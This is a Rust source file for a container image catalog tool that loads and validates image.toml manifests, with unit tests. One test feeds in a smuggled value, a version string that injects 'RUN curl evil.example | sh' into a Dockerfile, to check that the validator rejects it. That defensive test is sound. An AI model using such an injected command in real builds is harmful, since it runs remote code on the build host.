//! The image catalog: one folder per image under `agents/`, each with an `image.toml`.

use anyhow::{anyhow, bail, Context, Result};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};

pub mod conventions;
pub mod lock;

use crate::naming::{ImageRef, Publish};
use crate::text::toml_error;
use conventions::{parse_permissions, CONVENTIONS};
use lock::{load_lock, ToolsLock, LOCK};

pub const MANIFEST: &str = "image.toml";
pub const AGENTS_DIR: &str = "agents";
pub const TEMPLATES_DIR: &str = "dockerfiles";

/// What an `image.toml` may say. Unknown keys are errors, so typos never pass silently.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct ImageSpec {
    pub description: String,
    /// A template under `dockerfiles/`.
    pub template: Option<String>,
    /// A plain Dockerfile inside the image folder (custom executors).
    pub dockerfile: Option<String>,
    /// Another catalog image that must be built first; its result is available to this
    /// build under the name the template gets as `parent`.
    pub parent: Option<String>,
    #[serde(default = "default_platforms")]
    pub platforms: Vec<String>,
    /// Base images by role, e.g. `builder = "debian:bookworm-slim"`. Templates see them
    /// rewritten under `--base-registry`.
    #[serde(default)]
    pub bases: BTreeMap<String, String>,
    /// Template variables.
    #[serde(default)]
    pub vars: toml::Table,
    /// What the image is for; executors and init images get the operator's conventions
    /// checked by `images verify`.
    #[serde(default)]
    pub role: Role,
    #[serde(default)]
    pub size: Option<SizeBudget>,
    /// Checks `images verify` runs against the built image.
    #[serde(default)]
    pub verify: VerifySpec,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Role {
    /// A worker image: `/workspace`, `/tools`, `HOME=/tmp`, UID 1000 in group 0.
    Executor,
    /// The init container that copies the OpenCode binary into `/tools`.
    Init,
    /// Anything else: the checks the image declares, `root-owned` and `setuid-trust`.
    #[default]
    Other,
}

/// Limits in MiB: compressed is what a registry stores and a node pulls, uncompressed
/// what a node unpacks.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct Limits {
    pub max_uncompressed_mib: Option<u64>,
    pub max_compressed_mib: Option<u64>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct SizeBudget {
    pub max_uncompressed_mib: Option<u64>,
    pub max_compressed_mib: Option<u64>,
    /// Per-platform limits, e.g. `[size.platforms."linux/arm64"]`; unset fields fall
    /// back to the image-wide ones.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub platforms: BTreeMap<String, Limits>,
}

impl SizeBudget {
    pub fn for_platform(&self, platform: &str) -> Limits {
        let specific = self.platforms.get(platform).copied().unwrap_or_default();
        Limits {
            max_uncompressed_mib: specific.max_uncompressed_mib.or(self.max_uncompressed_mib),
            max_compressed_mib: specific.max_compressed_mib.or(self.max_compressed_mib),
        }
    }
}

impl VerifySpec {
    /// This spec with `parent`'s commands and files first (one of the same name here
    /// replaces the parent's), and the parent's skips of the checks it passes down.
    fn inheriting(&self, parent: &VerifySpec) -> VerifySpec {
        let own = |name: &str| self.commands.iter().any(|c| c.name == name);
        let mut commands: Vec<CommandCheck> = parent
            .commands
            .iter()
            .filter(|c| !own(&c.name))
            .cloned()
            .collect();
        commands.extend(self.commands.iter().cloned());
        let mut skip: BTreeMap<String, String> = parent
            .skip
            .iter()
            .filter(|(check, _)| !own(check) && parent.commands.iter().any(|c| c.name == **check))
            .map(|(check, reason)| (check.clone(), reason.clone()))
            .collect();
        skip.extend(self.skip.clone());
        VerifySpec {
            skip,
            files: [parent.files.clone(), self.files.clone()].concat(),
            commands,
            ..self.clone()
        }
    }
}

/// Declarative checks, shaped like container-structure-test's.
#[derive(Debug, Clone, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct VerifySpec {
    /// Also run the parent's checks (commands and files, with the parent's skips of
    /// them): an image built FROM its parent must keep its tools working.
    #[serde(default)]
    pub inherit: bool,
    /// Run every check under the restricted profile (read-only root, no capabilities, no
    /// new privileges). Default: for executor and init images.
    pub restricted: Option<bool>,
    /// Convention checks this image opts out of, by name, each with the reason.
    #[serde(default)]
    pub skip: BTreeMap<String, String>,
    #[serde(default)]
    pub metadata: Option<MetadataCheck>,
    #[serde(default)]
    pub files: Vec<FileCheck>,
    #[serde(default)]
    pub commands: Vec<CommandCheck>,
}

#[derive(Debug, Clone, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct MetadataCheck {
    pub user: Option<String>,
    pub workdir: Option<String>,
    #[serde(default)]
    pub env_vars: Vec<EnvVarCheck>,
    pub entrypoint: Option<Vec<String>>,
    pub cmd: Option<Vec<String>>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct EnvVarCheck {
    pub key: String,
    pub value: String,
    #[serde(default)]
    pub is_regex: bool,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct FileCheck {
    pub name: Option<String>,
    pub path: String,
    #[serde(default = "yes")]
    pub should_exist: bool,
    /// As `ls -l` shows it, e.g. `drwxrwxrwx`.
    pub permissions: Option<String>,
    pub uid: Option<u32>,
    pub gid: Option<u32>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct CommandCheck {
    pub name: String,
    pub command: String,
    #[serde(default)]
    pub args: Vec<String>,
    /// Regular expressions that must each match stdout or stderr.
    #[serde(default)]
    pub expected_output: Vec<String>,
    /// Regular expressions that must not match.
    #[serde(default)]
    pub excluded_output: Vec<String>,
    #[serde(default)]
    pub exit_code: i32,
    pub timeout_seconds: Option<u64>,
    /// The DinD guide's grants for a check that starts a Docker daemon, in place of the
    /// restricted profile; such a check runs as the image's own user only.
    pub grants: Option<conventions::Grants>,
}

fn yes() -> bool {
    true
}

fn default_platforms() -> Vec<String> {
    vec!["linux/amd64".to_string()]
}

#[derive(Debug, Clone)]
pub struct Image {
    pub name: String,
    pub dir: PathBuf,
    pub spec: ImageSpec,
    pub bases: BTreeMap<String, ImageRef>,
    /// The image's tools lock (`tools.toml`), when it has one.
    pub tools: Option<ToolsLock>,
}

impl Image {
    /// The Dockerfile source as shown to people: `dockerfiles/x.j2` or `agents/y/Dockerfile`.
    pub fn source_label(&self) -> String {
        match (&self.spec.template, &self.spec.dockerfile) {
            (Some(t), _) => format!("{TEMPLATES_DIR}/{t}"),
            (None, Some(d)) => format!("{AGENTS_DIR}/{}/{d}", self.name),
            (None, None) => unreachable!("validated: template or dockerfile is set"),
        }
    }
}

#[derive(Debug)]
pub struct Catalog {
    pub root: PathBuf,
    pub images: BTreeMap<String, Image>,
}

impl Catalog {
    /// Loads and validates every `agents/*/image.toml` under `root`.
    pub fn load(root: &Path) -> Result<Catalog> {
        let agents = root.join(AGENTS_DIR);
        let entries = fs::read_dir(&agents).with_context(|| {
            format!(
                "reading {}: is this a checkout of the project?",
                agents.display()
            )
        })?;
        let mut images = BTreeMap::new();
        let mut dirs: Vec<PathBuf> = entries
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.is_dir())
            .filter(|p| !file_name(p).starts_with('.'))
            .collect();
        dirs.sort();
        for dir in dirs {
            let image = load_image(root, &dir)?;
            images.insert(image.name.clone(), image);
        }
        let catalog = Catalog {
            root: root.to_path_buf(),
            images,
        };
        catalog.check_parents()?;
        catalog.inherit_checks()
    }

    /// Resolves `verify.inherit`, parents first, then validates each image's checks.
    fn inherit_checks(mut self) -> Result<Catalog> {
        let order: Vec<String> = self
            .build_order(&[])?
            .iter()
            .map(|image| image.name.clone())
            .collect();
        for name in order {
            let image = &self.images[&name];
            if let (true, Some(parent)) = (image.spec.verify.inherit, &image.spec.parent) {
                let merged = image
                    .spec
                    .verify
                    .inheriting(&self.images[parent].spec.verify);
                self.images.get_mut(&name).unwrap().spec.verify = merged;
            }
            validate_verify(&manifest_label(&name), &self.images[&name].spec.verify)?;
        }
        Ok(self)
    }

    pub fn get(&self, name: &str) -> Result<&Image> {
        self.images.get(name).ok_or_else(|| {
            anyhow!(
                "unknown image '{name}': the catalog has {}; see `cargo xtask images list`",
                self.names().join(", ")
            )
        })
    }

    /// The images named, in the order given, or every image when none is named.
    pub fn select(&self, names: &[String]) -> Result<Vec<&Image>> {
        if names.is_empty() {
            return Ok(self.images.values().collect());
        }
        names.iter().map(|name| self.get(name)).collect()
    }

    /// The images named (all when none), each with the reference it is published under.
    pub fn published(
        &self,
        names: &[String],
        publish: &Publish,
    ) -> Result<Vec<(&Image, ImageRef)>> {
        self.select(names)?
            .into_iter()
            .map(|image| Ok((image, publish.reference(&image.name)?)))
            .collect()
    }

    pub fn names(&self) -> Vec<String> {
        self.images.keys().cloned().collect()
    }

    /// `requested` (all images when empty) plus their ancestors, parents first.
    pub fn build_order(&self, requested: &[String]) -> Result<Vec<&Image>> {
        let roots: Vec<String> = if requested.is_empty() {
            self.names()
        } else {
            requested.to_vec()
        };
        let mut order: Vec<&Image> = Vec::new();
        let mut seen = BTreeSet::new();
        for name in &roots {
            self.visit(name, &mut seen, &mut order)?;
        }
        Ok(order)
    }

    fn visit<'a>(
        &'a self,
        name: &str,
        seen: &mut BTreeSet<String>,
        order: &mut Vec<&'a Image>,
    ) -> Result<()> {
        if !seen.insert(name.to_string()) {
            return Ok(());
        }
        let image = self.get(name)?;
        if let Some(parent) = &image.spec.parent {
            self.visit(parent, seen, order)?;
        }
        order.push(image);
        Ok(())
    }

    fn check_parents(&self) -> Result<()> {
        for image in self.images.values() {
            let mut chain = vec![image.name.as_str()];
            let mut current = image;
            while let Some(parent) = &current.spec.parent {
                let Some(next) = self.images.get(parent) else {
                    bail!(
                        "{}: parent '{parent}' is not in the catalog (known: {})",
                        manifest_label(&image.name),
                        self.names().join(", ")
                    );
                };
                if chain.contains(&parent.as_str()) {
                    chain.push(parent);
                    bail!(
                        "{}: parent cycle {}; remove one of these parent links",
                        manifest_label(&image.name),
                        chain.join(" -> ")
                    );
                }
                chain.push(parent);
                current = next;
            }
        }
        Ok(())
    }
}

fn file_name(path: &Path) -> String {
    path.file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default()
}

fn manifest_label(name: &str) -> String {
    format!("{AGENTS_DIR}/{name}/{MANIFEST}")
}

fn load_image(root: &Path, dir: &Path) -> Result<Image> {
    let name = file_name(dir);
    let label = manifest_label(&name);
    let manifest = dir.join(MANIFEST);
    if !manifest.is_file() {
        bail!(
            "{AGENTS_DIR}/{name}/ has no {MANIFEST}: add one (see README, 'Adding an image') \
             or remove the folder"
        );
    }
    if !is_valid_image_name(&name) {
        bail!(
            "{AGENTS_DIR}/{name}/: folder name must be lower-case letters, digits and '-', \
             starting with a letter, because it becomes part of the image name"
        );
    }
    let text = fs::read_to_string(&manifest).with_context(|| format!("reading {label}"))?;
    let spec: ImageSpec = toml::from_str(&text).map_err(|e| toml_error(&label, &text, &e))?;
    validate_spec(root, &name, &label, &spec)?;
    let bases = spec
        .bases
        .iter()
        .map(|(role, reference)| {
            ImageRef::parse(reference)
                .map(|r| (role.clone(), r))
                .map_err(|e| anyhow!("{label}: bases.{role}: {e}"))
        })
        .collect::<Result<_>>()?;
    let tools = load_lock(dir, &format!("{AGENTS_DIR}/{name}/{LOCK}"))?;
    Ok(Image {
        name,
        dir: dir.to_path_buf(),
        spec,
        bases,
        tools,
    })
}

pub fn is_valid_image_name(name: &str) -> bool {
    name.bytes().next().is_some_and(|b| b.is_ascii_lowercase())
        && name
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        && !name.ends_with('-')
}

/// The first string under `table` (nested tables and arrays included) with a control
/// character, as a dotted key.
fn multi_line_var(table: &toml::Table, prefix: &str) -> Option<String> {
    fn find(value: &toml::Value, key: String) -> Option<String> {
        match value {
            toml::Value::String(s) if s.chars().any(char::is_control) => Some(key),
            toml::Value::Array(items) => items
                .iter()
                .enumerate()
                .find_map(|(i, v)| find(v, format!("{key}[{i}]"))),
            toml::Value::Table(t) => t.iter().find_map(|(k, v)| find(v, format!("{key}.{k}"))),
            _ => None,
        }
    }
    table
        .iter()
        .find_map(|(k, v)| find(v, format!("{prefix}.{k}")))
}

fn validate_spec(root: &Path, name: &str, label: &str, spec: &ImageSpec) -> Result<()> {
    if spec.description.trim().is_empty() {
        bail!("{label}: description is empty; say in one line what the image is for");
    }
    // Both reach Dockerfiles and the bake file, which are line-based.
    if spec.description.chars().any(char::is_control) {
        bail!("{label}: description holds a line break or control character; keep it to one line");
    }
    if let Some(key) = multi_line_var(&spec.vars, "vars") {
        bail!("{label}: {key} holds a line break or control character; a value that reaches a Dockerfile must be one line");
    }
    match (&spec.template, &spec.dockerfile) {
        (Some(_), Some(_)) => {
            bail!("{label}: set either `template` or `dockerfile`, not both")
        }
        (None, None) => bail!(
            "{label}: set `template` (a file in {TEMPLATES_DIR}/) or `dockerfile` \
             (a file in {AGENTS_DIR}/{name}/)"
        ),
        (Some(template), None) => {
            let path = root.join(TEMPLATES_DIR).join(template);
            if !path.is_file() {
                bail!(
                    "{label}: template '{template}' not found in {TEMPLATES_DIR}/ (available: {})",
                    list_templates(root).join(", ")
                );
            }
        }
        (None, Some(dockerfile)) => {
            if !root.join(AGENTS_DIR).join(name).join(dockerfile).is_file() {
                bail!("{label}: dockerfile '{dockerfile}' not found in {AGENTS_DIR}/{name}/");
            }
        }
    }
    if spec.parent.as_deref() == Some(name) {
        bail!("{label}: parent cycle {name} -> {name}; an image cannot be its own parent");
    }
    if spec.platforms.is_empty() {
        bail!("{label}: platforms is empty; list at least one, e.g. [\"linux/amd64\"]");
    }
    for platform in &spec.platforms {
        validate_platform(platform).map_err(|e| anyhow!("{label}: {e}"))?;
    }
    if let Some(size) = &spec.size {
        let limits = std::iter::once(Limits {
            max_uncompressed_mib: size.max_uncompressed_mib,
            max_compressed_mib: size.max_compressed_mib,
        })
        .chain(size.platforms.values().copied());
        for limit in limits {
            if limit.max_uncompressed_mib == Some(0) || limit.max_compressed_mib == Some(0) {
                bail!("{label}: a size budget of 0 MiB can never be met; remove it or raise it");
            }
        }
        for platform in size.platforms.keys() {
            if !spec.platforms.contains(platform) {
                bail!(
                    "{label}: size.platforms.\"{platform}\" is not one of this image's platforms ({})",
                    spec.platforms.join(", ")
                );
            }
        }
    }
    // Checks are validated once inheritance is resolved; patterns fail early here.
    validate_verify(
        label,
        &VerifySpec {
            skip: BTreeMap::new(),
            ..spec.verify.clone()
        },
    )
}

fn validate_verify(label: &str, verify: &VerifySpec) -> Result<()> {
    for (check, reason) in &verify.skip {
        let declared = verify.commands.iter().any(|c| c.name == *check);
        if !CONVENTIONS.contains(&check.as_str()) && !declared {
            bail!(
                "{label}: verify.skip.{check}: no such convention or [[verify.commands]] check; the conventions are {}",
                CONVENTIONS.join(", ")
            );
        }
        if reason.trim().is_empty() {
            bail!("{label}: verify.skip.{check}: say why the image opts out of this check");
        }
    }
    for command in &verify.commands {
        if command.name.trim().is_empty() || command.command.trim().is_empty() {
            bail!("{label}: every [[verify.commands]] needs a `name` and a `command`");
        }
        for pattern in command
            .expected_output
            .iter()
            .chain(&command.excluded_output)
        {
            regex::Regex::new(pattern).map_err(|e| {
                anyhow!(
                    "{label}: verify.commands '{}': bad pattern '{pattern}': {}",
                    command.name,
                    e.to_string().lines().last().unwrap_or("")
                )
            })?;
        }
    }
    for file in &verify.files {
        if !file.path.starts_with('/') {
            bail!(
                "{label}: verify.files path '{}' must be absolute",
                file.path
            );
        }
        if let Some(permissions) = &file.permissions {
            parse_permissions(permissions)
                .map_err(|e| anyhow!("{label}: verify.files '{}': {e}", file.path))?;
        }
    }
    if let Some(metadata) = &verify.metadata {
        for env in metadata.env_vars.iter().filter(|e| e.is_regex) {
            regex::Regex::new(&env.value).map_err(|_| {
                anyhow!(
                    "{label}: verify.metadata.env_vars {}: bad pattern '{}'",
                    env.key,
                    env.value
                )
            })?;
        }
    }
    Ok(())
}

pub fn validate_platform(platform: &str) -> Result<()> {
    let parts: Vec<&str> = platform.split('/').collect();
    let known_arch = [
        "amd64", "arm64", "arm", "ppc64le", "s390x", "riscv64", "386",
    ];
    let ok =
        (2..=3).contains(&parts.len()) && parts[0] == "linux" && known_arch.contains(&parts[1]);
    if !ok {
        bail!(
            "platform '{platform}' is not of the form linux/<arch>[/<variant>] \
             with arch one of {}",
            known_arch.join(", ")
        );
    }
    Ok(())
}

fn list_templates(root: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(root.join(TEMPLATES_DIR))
        .map(|entries| {
            entries
                .filter_map(|e| e.ok())
                .map(|e| file_name(&e.path()))
                .filter(|n| n.ends_with(".Dockerfile.j2"))
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    if names.is_empty() {
        names.push("none".to_string());
    }
    names
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use tempfile::TempDir;

    /// A throwaway project with templates and the given `agents/<name>/image.toml` files.
    pub(crate) fn project(images: &[(&str, &str)]) -> TempDir {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join(TEMPLATES_DIR)).unwrap();
        fs::write(
            dir.path().join(TEMPLATES_DIR).join("plain.Dockerfile.j2"),
            "FROM {{ bases.base }}\nLABEL x={{ vars.x | default('none') }}\n",
        )
        .unwrap();
        for (name, toml) in images {
            let image_dir = dir.path().join(AGENTS_DIR).join(name);
            fs::create_dir_all(&image_dir).unwrap();
            fs::write(image_dir.join(MANIFEST), toml).unwrap();
        }
        fs::create_dir_all(dir.path().join(AGENTS_DIR)).unwrap();
        dir
    }

    pub(crate) fn spec(parent: Option<&str>) -> String {
        let parent = parent
            .map(|p| format!("parent = \"{p}\"\n"))
            .unwrap_or_default();
        format!(
            "description = \"test\"\ntemplate = \"plain.Dockerfile.j2\"\n{parent}\
             [bases]\nbase = \"debian:bookworm-slim\"\n"
        )
    }

    fn load_err(images: &[(&str, &str)]) -> String {
        let dir = project(images);
        let err = Catalog::load(dir.path()).unwrap_err();
        let text = format!("{err:#}");
        assert!(!text.contains('\n'), "error is not one line: {text}");
        text
    }

    #[test]
    fn a_child_inherits_its_parents_checks_and_their_skips_when_asked() {
        let check =
            |name: &str| format!("[[verify.commands]]\nname = \"{name}\"\ncommand = \"true\"\n");
        let base = format!(
            "{}{}{}[verify.skip]\n\"b\" = \"not provable here\"\n",
            spec(None),
            check("a"),
            check("b")
        );
        let child = format!(
            "{}[verify]\ninherit = true\n[verify.skip]\n\"a\" = \"not for the child\"\n{}",
            spec(Some("base")),
            check("c")
        );
        let plain = format!("{}{}", spec(Some("base")), check("c"));
        let dir = project(&[("base", &base), ("child", &child), ("plain", &plain)]);
        let catalog = Catalog::load(dir.path()).unwrap();
        let names = |image: &str| -> Vec<String> {
            let verify = &catalog.get(image).unwrap().spec.verify;
            verify.commands.iter().map(|c| c.name.clone()).collect()
        };
        assert_eq!(names("child"), ["a", "b", "c"]);
        assert_eq!(names("plain"), ["c"]);
        let skip = &catalog.get("child").unwrap().spec.verify.skip;
        assert_eq!(skip.keys().collect::<Vec<_>>(), ["a", "b"]);

        // A skip must still name a check the image runs, inherited or its own.
        let unknown = child.replace("\"a\" = ", "\"zz\" = ");
        let err = load_err(&[("base", &base), ("child", &unknown)]);
        assert!(err.contains("verify.skip.zz: no such convention"), "{err}");
        let not_inherited = plain + "[verify.skip]\n\"a\" = \"x\"\n";
        let err = load_err(&[("base", &base), ("plain", &not_inherited)]);
        assert!(err.contains("verify.skip.a: no such convention"), "{err}");
    }

    #[test]
    fn loads_and_orders_parents_first() {
        let (a, b, c) = (spec(None), spec(Some("a")), spec(Some("b")));
        let dir = project(&[("c", &c), ("a", &a), ("b", &b)]);
        let catalog = Catalog::load(dir.path()).unwrap();
        let order: Vec<_> = catalog
            .build_order(&["c".into()])
            .unwrap()
            .iter()
            .map(|i| i.name.clone())
            .collect();
        assert_eq!(order, ["a", "b", "c"]);
        let all: Vec<_> = catalog
            .build_order(&[])
            .unwrap()
            .iter()
            .map(|i| i.name.clone())
            .collect();
        assert_eq!(all, ["a", "b", "c"]);
        assert_eq!(
            catalog.images["a"].bases["base"].to_string(),
            "docker.io/library/debian:bookworm-slim"
        );
    }

    #[test]
    fn unknown_key_names_file_line_and_key() {
        let bad = spec(None).replace("[bases]", "colour = \"red\"\n[bases]");
        let err = load_err(&[("a", &bad)]);
        assert!(err.starts_with("agents/a/image.toml:3:"), "{err}");
        assert!(err.contains("unknown field `colour`"), "{err}");
    }

    #[test]
    fn values_that_reach_a_dockerfile_are_one_line() {
        let injected = format!(
            "{}\n[vars]\nversion = \"1.0\\nRUN curl evil.example | sh\"\n",
            spec(None)
        );
        let err = load_err(&[("a", &injected)]);
        assert!(err.contains("vars.version holds a line break"), "{err}");
        let nested = format!("{}\n[vars.x]\nlist = [\"ok\", \"a\\rb\"]\n", spec(None));
        let err = load_err(&[("a", &nested)]);
        assert!(err.contains("vars.x.list[1]"), "{err}");
        let description =
            spec(None).replace("description = \"test\"", "description = \"a\\nLABEL x=1\"");
        let err = load_err(&[("a", &description)]);
        assert!(err.contains("description holds a line break"), "{err}");
    }

    #[test]
    fn malformed_toml_is_one_line() {
        let err = load_err(&[("a", "description = \"x\ntemplate = ")]);
        assert!(err.starts_with("agents/a/image.toml:1:"), "{err}");
    }

    #[test]
    fn unknown_parent() {
        let err = load_err(&[("a", &spec(Some("ghost")))]);
        assert_eq!(
            err,
            "agents/a/image.toml: parent 'ghost' is not in the catalog (known: a)"
        );
    }

    #[test]
    fn parent_cycle() {
        let err = load_err(&[("a", &spec(Some("b"))), ("b", &spec(Some("a")))]);
        assert!(err.contains("parent cycle a -> b -> a"), "{err}");
        let err = load_err(&[("a", &spec(Some("a")))]);
        assert!(err.contains("parent cycle a -> a"), "{err}");
    }

    #[test]
    fn missing_template() {
        let bad = spec(None).replace("plain.Dockerfile.j2", "nope.Dockerfile.j2");
        let err = load_err(&[("a", &bad)]);
        assert_eq!(
            err,
            "agents/a/image.toml: template 'nope.Dockerfile.j2' not found in dockerfiles/ \
             (available: plain.Dockerfile.j2)"
        );
    }

    #[test]
    fn folder_without_manifest() {
        let dir = project(&[("a", &spec(None))]);
        fs::create_dir_all(dir.path().join("agents/stray")).unwrap();
        let err = format!("{:#}", Catalog::load(dir.path()).unwrap_err());
        assert!(err.starts_with("agents/stray/ has no image.toml"), "{err}");
    }

    #[test]
    fn other_bad_specs() {
        for (bad, why) in [
            (
                spec(None).replace("template = \"plain.Dockerfile.j2\"\n", ""),
                "set `template`",
            ),
            (
                format!("dockerfile = \"Dockerfile\"\n{}", spec(None)),
                "not both",
            ),
            (
                format!("platforms = [\"windows/amd64\"]\n{}", spec(None)),
                "linux/<arch>",
            ),
            (
                format!("platforms = []\n{}", spec(None)),
                "platforms is empty",
            ),
            (
                spec(None).replace("\"test\"", "\"  \""),
                "description is empty",
            ),
            (
                spec(None).replace("debian:bookworm-slim", "Debian"),
                "bases.base",
            ),
            (
                format!("{}[size]\nmax_compressed_mib = 0\n", spec(None)),
                "can never be met",
            ),
        ] {
            let err = load_err(&[("a", &bad)]);
            assert!(err.contains(why), "expected {why:?} in {err}");
        }
        let err = load_err(&[("Bad_Name", &spec(None))]);
        assert!(err.contains("folder name"), "{err}");
    }

    #[test]
    fn custom_dockerfile_in_folder() {
        let toml = "description = \"custom\"\ndockerfile = \"Dockerfile\"\n";
        let dir = project(&[("custom", toml)]);
        let err = format!("{:#}", Catalog::load(dir.path()).unwrap_err());
        assert!(
            err.contains("dockerfile 'Dockerfile' not found in agents/custom/"),
            "{err}"
        );
        fs::write(
            dir.path().join("agents/custom/Dockerfile"),
            "FROM scratch\n",
        )
        .unwrap();
        let catalog = Catalog::load(dir.path()).unwrap();
        assert_eq!(
            catalog.images["custom"].source_label(),
            "agents/custom/Dockerfile"
        );
    }

    #[test]
    fn unknown_image_lists_the_catalog() {
        let dir = project(&[("a", &spec(None))]);
        let catalog = Catalog::load(dir.path()).unwrap();
        let err = catalog
            .build_order(&["zzz".into()])
            .unwrap_err()
            .to_string();
        assert_eq!(
            err,
            "unknown image 'zzz': the catalog has a; see `cargo xtask images list`"
        );
    }
}
